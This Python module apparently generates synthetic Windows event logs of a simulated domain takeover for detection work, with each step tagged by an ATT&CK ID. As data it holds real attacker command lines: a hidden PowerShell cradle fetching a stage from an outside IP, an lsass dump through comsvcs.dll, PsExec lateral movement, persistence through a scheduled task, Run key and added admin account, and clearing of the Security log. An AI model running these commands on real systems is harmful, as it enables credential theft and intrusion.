"""Windows Security, Sysmon, PowerShell and System events of a small domain that is taken over from one workstation."""

from __future__ import annotations

import base64
import json
from datetime import UTC, datetime

from simulation import windows_day
from simulation.story import Mark, Story
from simulation.windows_events import ADDRESSES, DOMAIN, Domain, number_records, sid

_SYSTEM32 = "C:\\Windows\\System32\\"
_POWERSHELL = _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_CMD = _SYSTEM32 + "cmd.exe"
_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
_PSEXEC = "C:\\Windows\\PSEXESVC.exe"
_STAGE = "http://203.0.113.45/a.ps1"
_MINUTES = 180
_VICTIM, _STOLEN = "emma.clark", "adm.olsen"


def _enter(domain: Domain, time: float) -> None:
    opened = Mark("T1204.002", "execution", "emma.clark opens a document with a macro")
    document = (
        f"C:\\Users\\{_VICTIM}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Invoice_0317.docm"
    )
    domain.process(time, "WS01", _VICTIM, _WORD, f'"{_WORD}" /n "{document}" /o ""', _OUTLOOK, opened)
    script = f"IEX (New-Object Net.WebClient).DownloadString('{_STAGE}')"
    hidden = base64.b64encode(script.encode("utf-16-le")).decode()
    shell = Mark("T1059.001", "execution", "the macro starts a hidden PowerShell")
    command = f"powershell.exe -NoP -NonI -W Hidden -Enc {hidden}"
    domain.process(time + 4, "WS01", _VICTIM, _POWERSHELL, command, _WORD, shell)
    domain.script(time + 5, "WS01", _VICTIM, script, shell)
    fetch = Mark("T1105", "command-and-control", "PowerShell fetches the next stage")
    connection = {
        "User": f"{DOMAIN}\\{_VICTIM}",
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIsIpv6": "false",
        "SourceIp": ADDRESSES["WS01"],
        "SourceHostname": "WS01.corp.example",
        "SourcePort": "50731",
        "DestinationIsIpv6": "false",
        "DestinationIp": "203.0.113.45",
        "DestinationHostname": "-",
        "DestinationPort": "80",
        "DestinationPortName": "http",
    }
    domain.sysmon(time + 6, "WS01", 3, _POWERSHELL, connection, fetch)


def _look_around(domain: Domain, time: float) -> None:
    for wait, image, command, mark in (
        (0, "whoami.exe", "whoami /all", Mark("T1033", "discovery", "asks who it is")),
        (9, "net.exe", 'net group "Domain Admins" /domain', Mark("T1069.002", "discovery", "lists the domain admins")),
        (
            21,
            "nltest.exe",
            "nltest /domain_trusts /all_trusts",
            Mark("T1482", "discovery", "lists the domain's trusts"),
        ),
    ):
        domain.process(time + wait, "WS01", _VICTIM, _SYSTEM32 + image, command, _POWERSHELL, mark)


def _dump_credentials(domain: Domain, time: float) -> None:
    mark = Mark("T1003.001", "credential-access", "dumps lsass with comsvcs.dll")
    image, dump = _SYSTEM32 + "rundll32.exe", "C:\\Windows\\Temp\\d.dmp"
    command = f"rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 704 {dump} full"
    domain.process(time, "WS01", "SYSTEM", image, command, _POWERSHELL, mark)
    access = {
        "SourceProcessGUID": f"{{{domain.story.uuid()}}}",
        "SourceProcessId": "6120",
        "SourceThreadId": "3388",
        "SourceImage": image,
        "TargetProcessGUID": f"{{{domain.story.uuid()}}}",
        "TargetProcessId": "704",
        "TargetImage": _SYSTEM32 + "lsass.exe",
        "GrantedAccess": "0x1fffff",
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d104|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6cfe|"
        "C:\\Windows\\system32\\comsvcs.dll+24a4d",
        "SourceUser": "NT AUTHORITY\\SYSTEM",
        "TargetUser": "NT AUTHORITY\\SYSTEM",
    }
    domain.sysmon(time + 1, "WS01", 10, "", access, mark)
    created = {"TargetFilename": dump, "CreationUtcTime": "2026-03-17 09:47:12.402", "User": "NT AUTHORITY\\SYSTEM"}
    domain.sysmon(time + 2, "WS01", 11, image, created, mark)


def _move_to_server(domain: Domain, time: float) -> None:
    move = Mark("T1021.002", "lateral-movement", "uses the stolen account on FS01's ADMIN$ share")
    source = ADDRESSES["WS01"]
    explicit = {
        "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TargetUserName": _STOLEN,
        "TargetDomainName": DOMAIN,
        "TargetServerName": "FS01.corp.example",
        "TargetInfo": "cifs/FS01.corp.example",
        "ProcessId": "0x17e8",
        "ProcessName": _POWERSHELL,
        "IpAddress": "-",
        "IpPort": "-",
    }
    domain.security(time, "WS01", 4648, domain.subject("WS01", _VICTIM) | explicit, move)
    domain.log_on(time + 0.4, "FS01", _STOLEN, 3, source, "NTLM", move)
    share = {"ObjectType": "File", "IpAddress": source, "IpPort": "50760", "ShareName": "\\\\*\\ADMIN$"}
    path = {"ShareLocalPath": "\\??\\C:\\Windows", "AccessMask": "0x1", "AccessList": "%%4416\r\n\t\t\t\t"}
    domain.security(time + 0.6, "FS01", 5140, domain.subject("FS01", _STOLEN) | share | path, move)
    written = path | {"RelativeTargetName": "PSEXESVC.exe", "AccessMask": "0x2", "AccessList": "%%4417\r\n\t\t\t\t"}
    domain.security(time + 0.7, "FS01", 5145, domain.subject("FS01", _STOLEN) | share | written, move)
    run = Mark("T1569.002", "execution", "runs commands on FS01 through the PsExec service")
    service = {
        "ServiceName": "PSEXESVC",
        "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    }
    domain.service(time + 1.2, "FS01", 7045, service, run)
    domain.process(time + 1.5, "FS01", "SYSTEM", _PSEXEC, _PSEXEC, _SYSTEM32 + "services.exe", run)
    domain.sysmon(time + 1.8, "FS01", 17, _PSEXEC, {"EventType": "CreatePipe", "PipeName": "\\PSEXESVC"}, run)
    domain.process(time + 2.4, "FS01", "SYSTEM", _CMD, '"cmd.exe"', _PSEXEC, run)


def _stay(domain: Domain, time: float) -> None:
    task = Mark("T1053.005", "persistence", "plants a scheduled task on FS01")
    command = 'schtasks /create /ru SYSTEM /sc hourly /tn "CertCheck" /tr "C:\\ProgramData\\cc.exe" /f'
    domain.process(time, "FS01", "SYSTEM", _SYSTEM32 + "schtasks.exe", command, _CMD, task)
    content = (
        '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2"><Principals><Principal><UserId>S-1-5-18'
        "</UserId></Principal></Principals><Actions><Exec><Command>C:\\ProgramData\\cc.exe</Command></Exec></Actions></Task>"
    )
    fields = {"TaskName": "\\CertCheck", "TaskContent": content}
    domain.security(time + 0.5, "FS01", 4698, domain.subject("FS01", "SYSTEM") | fields, task)

    user = Mark("T1136.001", "persistence", "makes a local account on FS01")
    domain.process(time + 20, "FS01", "SYSTEM", _SYSTEM32 + "net.exe", "net user svc_bak Wq7!pass /add", _CMD, user)
    account = {
        "TargetUserName": "svc_bak",
        "TargetDomainName": "FS01",
        "TargetSid": "S-1-5-21-1604512003-2210047881-908144117-1003",
        "PrivilegeList": "-",
        "SamAccountName": "svc_bak",
        "UserPrincipalName": "-",
        "PrimaryGroupId": "513",
        "OldUacValue": "0x0",
        "NewUacValue": "0x15",
        "UserAccountControl": "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084",
    }
    domain.security(time + 20.5, "FS01", 4720, domain.subject("FS01", "SYSTEM") | account, user)

    group = Mark("T1098.007", "persistence", "makes that account an administrator")
    command = "net localgroup Administrators svc_bak /add"
    domain.process(time + 31, "FS01", "SYSTEM", _SYSTEM32 + "net.exe", command, _CMD, group)
    member = {
        "MemberName": "-",
        "MemberSid": "S-1-5-21-1604512003-2210047881-908144117-1003",
        "TargetUserName": "Administrators",
        "TargetDomainName": "Builtin",
        "TargetSid": "S-1-5-32-544",
        "PrivilegeList": "-",
    }
    domain.security(time + 31.5, "FS01", 4732, domain.subject("FS01", "SYSTEM") | member, group)

    run_key = Mark("T1547.001", "persistence", "adds a Run key on WS01")
    key = "HKU\\" + sid(_VICTIM) + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\CertCheck"
    command = (
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v CertCheck /d C:\\ProgramData\\cc.exe /f"
    )
    domain.process(time + 70, "WS01", _VICTIM, _SYSTEM32 + "reg.exe", command, _POWERSHELL, run_key)
    value = {"EventType": "SetValue", "TargetObject": key, "Details": "C:\\ProgramData\\cc.exe"}
    domain.sysmon(time + 70.3, "WS01", 13, _SYSTEM32 + "reg.exe", value, run_key)


def _copy_directory(domain: Domain, time: float) -> None:
    mark = Mark("T1003.006", "credential-access", "asks the domain controller for password hashes (DCSync)")
    domain.log_on(time, "DC01", _STOLEN, 3, ADDRESSES["WS01"], "NTLM", mark)
    for number, right in enumerate(("1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2")):
        fields = {
            "ObjectServer": "DS",
            "ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
            "ObjectName": "%{3a1f44d2-7be5-4a53-8d9e-1c52f0b8a6e1}",
            "OperationType": "Object Access",
            "HandleId": "0x0",
            "AccessList": "%%7688\r\n\t\t\t\t",
            "AccessMask": "0x100",
            "Properties": f"%%7688\r\n\t\t{{{right}}}\r\n\t{{19195a5b-6da0-11d0-afd3-00c04fd930c9}}\r\n",
            "AdditionalInfo": "-",
            "AdditionalInfo2": "",
        }
        domain.security(time + 0.3 + number, "DC01", 4662, domain.subject("DC01", _STOLEN) | fields, mark)


def _clear_log(domain: Domain, time: float) -> None:
    mark = Mark("T1070.001", "defense-evasion", "clears FS01's Security log")
    domain.process(time, "FS01", "SYSTEM", _SYSTEM32 + "wevtutil.exe", "wevtutil cl Security", _CMD, mark)
    domain.security(time + 0.4, "FS01", 1102, domain.subject("FS01", "SYSTEM"), mark)
    record = domain.story.records[-1][1]
    record |= {"SourceName": "Microsoft-Windows-Eventlog", "ProviderGuid": "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}"}
    record |= {"Task": 104, "Category": "Log clear", "Keywords": 4620693217682128896, "EventType": "INFO"}


def write(seed: int) -> tuple[str, Story]:
    """The log as JSON lines, and the story behind it."""
    story = Story(seed, datetime(2026, 3, 17, 8, 0, tzinfo=UTC))
    domain = Domain(story)
    windows_day.play(domain, _MINUTES)
    _enter(domain, story.at(101))
    _look_around(domain, story.at(103))
    _dump_credentials(domain, story.at(107.2))
    _move_to_server(domain, story.at(118))
    _stay(domain, story.at(121))
    _copy_directory(domain, story.at(131))
    _clear_log(domain, story.at(150))
    number_records(story)
    lines = (json.dumps(record, ensure_ascii=False) for _, record, _ in story.in_order())
    return "".join(f"{line}\n" for line in lines), story
